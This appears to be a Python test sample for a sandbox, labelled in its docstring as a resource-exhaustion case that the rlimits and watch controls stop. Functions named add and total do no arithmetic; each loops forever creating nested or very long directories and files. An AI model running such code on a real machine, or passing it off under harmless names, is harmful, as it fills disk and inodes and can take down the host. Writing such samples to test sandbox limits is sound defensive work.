"""
group: exhaustion
tries: Makes files and folders without end, in great number and at great depth.
stopped by: rlimits, watch
"""
import os


def add(a, b):
    number = 0
    while True:
        number += 1
        os.makedirs(f"{number}/{number}", exist_ok=True)
        open(f"{number}/{number}/x", "w").close()


def total(numbers):
    while True:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
